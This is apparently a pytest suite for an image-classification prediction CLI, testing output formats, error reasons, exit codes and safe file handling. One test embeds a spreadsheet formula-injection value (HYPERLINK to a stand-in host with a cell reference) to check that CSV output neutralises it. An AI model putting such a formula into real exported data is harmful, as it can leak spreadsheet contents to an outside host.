"""python -m gpufeed.predict on files of every kind: nothing lost, nothing worse than a row with a reason."""

import csv
import io
import json
import os
import subprocess
import sys
import tracemalloc
from dataclasses import replace

import numpy as np
import pytest
import torch
from image_fixtures import encode
from PIL import Image
from torchvision.transforms import InterpolationMode, functional
from trained_fixtures import CLASSES, about, write_model

from gpufeed.benchmarks.saved_models import image_files
from gpufeed.benchmarks.saved_models.image_files import EMPTY, Picture, Reader, find
from gpufeed.benchmarks.saved_models.model_file import load, save
from gpufeed.benchmarks.saved_models.prediction import Predictor, predict_to_csv
from gpufeed.benchmarks.saved_models.predictions_output import shown
from gpufeed.core.errors import GpufeedError
from gpufeed.predict import main

COLOURS = {"red": (220, 30, 30), "green": (30, 220, 30), "blue": (30, 30, 220)}


def picture(colour, height=8, width=10):
    """A plain image, uint8 (height, width, 3)."""
    return np.full((height, width, 3), colour, dtype=np.uint8)


@pytest.fixture
def photos(tmp_path):
    """A folder of a good, a large, a grayscale and two broken JPEGs, and a PNG, some in a folder below."""
    folder = tmp_path / "photos"
    (folder / "more").mkdir(parents=True)
    (folder / "a_red.jpg").write_bytes(encode(picture(COLOURS["red"]), "JPEG"))
    (folder / "b_broken.jpg").write_bytes(encode(picture(COLOURS["red"]), "JPEG")[:-150])
    (folder / "c_gray.jpeg").write_bytes(encode(picture((90, 90, 90)), "JPEG", "L"))
    (folder / "d_text.jpg").write_text("no picture at all")
    (folder / "more" / "e_large_green.JPG").write_bytes(encode(picture(COLOURS["green"], 300, 200), "JPEG"))
    (folder / "more" / "f_blue.png").write_bytes(encode(picture(COLOURS["blue"], 9, 9)))
    (folder / "notes.txt").write_text("not asked about")
    return folder


@pytest.fixture
def model(tmp_path):
    return str(write_model(tmp_path / "model.pt"))


def rows_of(text):
    return {os.path.basename(row["file"]): row for row in csv.DictReader(io.StringIO(text))}


def test_every_file_has_its_row_and_the_exit_code_tells_of_the_bad_ones(model, photos, capsys):
    code = main([model, str(photos), str(photos / "gone.png"), "--format", "csv", "--device", "cpu"])
    said = capsys.readouterr()
    rows = rows_of(said.out)
    assert list(rows) == [
        "a_red.jpg", "b_broken.jpg", "c_gray.jpeg", "d_text.jpg", "e_large_green.JPG", "f_blue.png",
        "gone.png",
    ]  # fmt: skip
    for name, colour in (("a_red.jpg", "red"), ("e_large_green.JPG", "green"), ("f_blue.png", "blue")):
        assert (rows[name]["class_1"], rows[name]["reason"]) == (colour, "")
        assert float(rows[name]["probability_1"]) > 0.9
    shares = [float(rows["c_gray.jpeg"][f"probability_{place}"]) for place in (1, 2, 3)]
    assert sum(shares) == pytest.approx(1, abs=1e-5)
    assert "truncated" in rows["b_broken.jpg"]["reason"].lower()
    assert "not an image that Pillow knows" in rows["d_text.jpg"]["reason"]
    assert rows["gone.png"]["reason"] == "No such file or directory"
    assert code == 1
    assert said.err == "3 files have no prediction; the output says why.\n"


def test_good_files_end_with_0_in_every_format(model, photos, capsys):
    good = [str(photos / "a_red.jpg"), str(photos / "more")]
    assert main([model, *good, "--top", "1"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert [line.split()[0] for line in lines] == ["red", "green", "blue"]
    assert all(line.endswith((".jpg", ".JPG", ".png")) and "%" in line for line in lines)
    assert main([model, *good, "--format", "json", "--top", "2"]) == 0
    found = json.loads(capsys.readouterr().out)
    assert [row["classes"][0]["class"] for row in found] == ["red", "green", "blue"]
    assert {len(row["classes"]) for row in found} == {2}
    assert [row["reason"] for row in found] == [None] * 3
    assert main([model, *good, "--format", "csv", "--top", "99"]) == 0
    assert capsys.readouterr().out.splitlines()[0].count("class_") == len(CLASSES)


def test_columns_of_the_table_stand_below_each_other(model, photos, capsys):
    main([model, str(photos)])
    out = capsys.readouterr().out
    starts = {line.index(str(photos)) for line in out.splitlines() if "no prediction" not in line}
    assert len(starts) == 1
    assert out.count("no prediction: ") == 2


def test_the_output_file_is_whole_or_not_there(model, photos, tmp_path, capsys):
    out = tmp_path / "out.csv"
    assert main([model, str(photos), "--format", "csv", "--output", str(out)]) == 1
    assert len(rows_of(out.read_text())) == 6
    before = out.read_bytes()
    assert main([str(tmp_path / "gone.pt"), str(photos), "--output", str(out)]) == 2
    assert out.read_bytes() == before
    assert main([model, str(photos), "--output", str(tmp_path / "no/such/folder.csv")]) == 2
    assert f"found: no folder {tmp_path / 'no/such'} to write folder.csv in" in capsys.readouterr().err
    assert not list(tmp_path.glob("*.partial"))


@pytest.mark.parametrize("what", ["model.pt", "photos/a_red.jpg", "link.jpg"])
def test_what_is_read_is_never_written_over(model, photos, tmp_path, what, capsys):
    (tmp_path / "link.jpg").symlink_to(photos / "a_red.jpg")
    before = (tmp_path / what).read_bytes()
    asked = [model, str(photos / "a_red.jpg"), "--output", str(tmp_path / what)]
    assert main(asked) == 2
    assert "both to read and to write" in capsys.readouterr().err
    assert (tmp_path / what).read_bytes() == before


@pytest.mark.parametrize(
    ("file", "words"), [("photos/a_red.jpg", "no model file"), ("model.pt", "No CUDA GPU on this node")]
)
def test_a_model_that_cannot_be_used_ends_with_2_and_plain_words(tmp_path, photos, file, words, capsys):
    """Other such files: test_model_file.py."""
    save(about("skipped", "No CUDA GPU on this node."), None, tmp_path / "model.pt")
    assert main([str(tmp_path / file), str(photos)]) == 2
    said = capsys.readouterr()
    assert said.out == ""
    assert words in said.err
    assert "Traceback" not in said.err


@pytest.mark.parametrize(
    ("changes", "found"),
    [
        ({"height": 10**9, "width": 10**9}, "1,000,000,000 x 1,000,000,000 pixels"),
        ({"height": 1, "width": 10**12}, "1 x 1,000,000,000,000 pixels"),
        ({"hyper": [1]}, "weights that do not fit model simple_cnn"),
        ({"hyper": {"channels": [2**40]}}, "weights that do not fit model simple_cnn"),
    ],
)
def test_a_model_that_asks_for_too_much_ends_with_2_and_plain_words(tmp_path, photos, changes, found, capsys):
    made = about()
    if "hyper" in changes:
        made["cell"]["hyper"]["model"] = changes["hyper"]
    else:
        made["input"] |= changes
    path = write_model(tmp_path / "model.pt", **made)
    assert main([str(path), str(photos), "--device", "cpu"]) == 2
    assert found in capsys.readouterr().err
    with pytest.raises(GpufeedError, match=found):
        predict_to_csv(path, [str(photos)], tmp_path / "out.csv", "cpu")
    assert not (tmp_path / "out.csv").exists()


def test_memory_that_runs_out_ends_with_2_and_plain_words(model, photos, monkeypatch, capsys):
    def out_of_memory(*_):
        raise MemoryError

    monkeypatch.setattr(image_files, "resized", out_of_memory)
    assert main([model, str(photos), "--device", "cpu"]) == 2
    assert "stopped: MemoryError" in capsys.readouterr().err


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'", "a", "1"])
def test_no_text_of_a_csv_is_a_formula_and_json_is_exact(tmp_path, start, monkeypatch, capsys):
    text = f'{start}HYPERLINK("http://x.y?"&A1)'
    model = write_model(tmp_path / "model.pt", classes=[text, "green", "blue"])
    monkeypatch.chdir(tmp_path)
    (tmp_path / f"{start}1.png").write_bytes(encode(picture(COLOURS["red"])))
    asked = [str(model), "--device", "cpu", "--", f"{start}1.png", f"{start}gone.png"]
    main(["--format", "csv", *asked])
    with io.StringIO(capsys.readouterr().out, newline="") as out:
        found, gone = csv.DictReader(out)
    mark = "'" if start in "=+-@\t\r" else ""
    assert (found["file"], found["class_1"]) == (f"{mark}{start}1.png", mark + text)
    assert gone["file"] == f"{mark}{start}gone.png"
    assert float(found["probability_1"]) > 0.9
    main(["--format", "json", *asked])
    first = json.loads(capsys.readouterr().out)[0]
    assert (first["file"], first["classes"][0]["class"]) == (f"{start}1.png", text)


@pytest.mark.parametrize(
    "args", [[], ["--top", "0"], ["--top", "x"], ["--format", "xml"], ["--device", "tpu"]]
)
def test_a_wrong_command_line_ends_with_2(model, photos, args, capsys):
    with pytest.raises(SystemExit) as caught:
        main([model, *([str(photos)] if args else []), *args])
    assert caught.value.code == 2
    assert "Traceback" not in capsys.readouterr().err


def test_a_device_that_is_not_there_ends_with_2(model, photos, monkeypatch, capsys):
    monkeypatch.setattr(torch.cuda, "is_available", lambda: False)
    assert main([model, str(photos), "--device", "cuda"]) == 2
    assert "finds no CUDA GPU" in capsys.readouterr().err


@pytest.mark.slow
def test_a_reader_that_has_seen_enough_is_no_error(model, tmp_path):
    for number in range(3000):
        (tmp_path / f"{number:04}-{'x' * 60}.jpg").write_text("not a picture")
    command = f"{sys.executable} -m gpufeed.predict {model} {tmp_path} | head -n 1"
    done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=120, check=False)
    assert done.stdout.count("\n") == 1
    assert done.stderr == ""


def test_files_are_found_in_order_and_an_empty_folder_is_told(photos, tmp_path):
    (tmp_path / "empty").mkdir()
    names = [str(tmp_path / "empty"), str(photos / "more"), str(photos / "notes.txt")]
    assert list(find(names)) == [
        Picture(names[0], EMPTY),
        Picture(str(photos / "more/e_large_green.JPG")),
        Picture(str(photos / "more/f_blue.png")),
        Picture(names[2]),  # named, so that it is tried whatever its name
    ]


def test_what_is_no_regular_file_is_not_waited_for(tmp_path, monkeypatch):
    reader = Reader((8, 10))
    os.mkfifo(tmp_path / "pipe.jpg")
    assert reader.read(Picture(str(tmp_path / "pipe.jpg"))).reason == "neither a file nor a folder"
    monkeypatch.setattr(image_files, "MOST_BYTES", 10)
    (tmp_path / "huge.jpg").write_bytes(encode(picture((1, 2, 3)), "JPEG"))
    assert "at most 10 are read" in reader.read(Picture(str(tmp_path / "huge.jpg"))).reason


def test_pixels_are_those_of_the_reference_resized(photos):
    path = photos / "more" / "e_large_green.JPG"
    found = Reader((8, 10)).read(Picture(str(path)))
    expected = Image.open(path).convert("RGB").resize((10, 8), Image.Resampling.BILINEAR)
    assert np.array_equal(found.pixels, np.array(expected))


def test_a_model_trained_on_crops_sees_the_middle_of_each_picture(model, photos):
    saved = load(model)
    assert saved.recipe is None
    hyper = {**saved.about["cell"]["hyper"], "recipe": {"size": 8, "short_side": 10}}
    cropping = replace(saved, about={**saved.about, "cell": {**saved.about["cell"], "hyper": hyper}})
    path = photos / "more" / "e_large_green.JPG"
    found = Reader((8, 8), cropping.recipe).read(Picture(str(path)))
    image = functional.resize(Image.open(path).convert("RGB"), 10, InterpolationMode.BILINEAR)
    left, top = (image.width - 8) // 2, (image.height - 8) // 2
    assert np.array_equal(found.pixels, np.array(image.crop((left, top, left + 8, top + 8))))


def test_probabilities_are_those_of_the_model_on_normalised_pixels(model):
    saved = load(model)
    pixels = np.random.default_rng(0).integers(0, 256, (3, 8, 10, 3), dtype=np.uint8)
    mean, std = torch.tensor([0.5, 0.4, 0.3]), torch.tensor([0.2, 0.25, 0.3])
    inputs = ((torch.from_numpy(pixels) / 255 - mean) / std).permute(0, 3, 1, 2)
    with torch.inference_mode():
        expected = saved.build(torch.device("cpu"))(inputs).softmax(1)
    found = Predictor(saved, torch.device("cpu")).probabilities(pixels)
    assert found == pytest.approx(expected.numpy(), abs=1e-5)


def test_a_model_that_gives_nan_gives_a_reason(tmp_path, photos):
    saved = load(write_model(tmp_path / "model.pt"))
    saved.state_dict["classifier.bias"][0] = float("nan")
    (found,) = Predictor(saved, torch.device("cpu")).predict([str(photos / "a_red.jpg")])
    assert "no finite number" in found.reason


def test_a_large_set_is_never_in_memory_at_once(model, tmp_path):
    data = encode(picture(COLOURS["red"], 250, 250), "PNG")
    for number in range(400):
        (tmp_path / f"{number}.png").write_bytes(data)
    predictor = Predictor(load(model), torch.device("cpu"))
    next(predictor.predict([str(tmp_path / "0.png")]))
    tracemalloc.start()
    count = sum(found.reason is None for found in predictor.predict([str(tmp_path)]))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert count == 400
    assert peak < 100 * 250 * 250 * 3  # a quarter of the decoded images


def test_a_model_without_weights_gives_rows_with_its_sentence(tmp_path, photos):
    save(about("skipped", "No CUDA GPU on this node."), None, tmp_path / "model.pt")
    predict_to_csv(tmp_path / "model.pt", [str(photos)], tmp_path / "out.csv", "cpu")
    rows = rows_of((tmp_path / "out.csv").read_text())
    assert len(rows) == 6
    assert {row["class_1"] for row in rows.values()} == {""}
    assert all("No CUDA GPU on this node" in row["reason"] for row in rows.values())


@pytest.mark.slow
@pytest.mark.skipif(sys.platform == "darwin", reason="macOS has no file names that are no text")
def test_names_that_are_no_text_survive(model, tmp_path):
    name = os.fsencode(tmp_path) + b"/caf\xe9\n.jpg"
    with open(name, "wb") as file:
        file.write(encode(picture(COLOURS["blue"]), "JPEG"))
    code = "import sys; from gpufeed.predict import main\n"
    code += "for format in ('csv', 'table', 'json'): assert main([*sys.argv[1:], '--format', format]) == 0"
    done = subprocess.run([sys.executable, "-c", code, model, name], capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr
    for expected in (b"caf\xe9\n.jpg", rb"caf\xe9\n.jpg", rb"caf\udce9\n.jpg"):
        assert expected in done.stdout


def test_what_is_shown_has_no_control_codes():
    assert shown("a\tb\x1b[31m é ü") == r"a\tb\x1b[31m é ü"
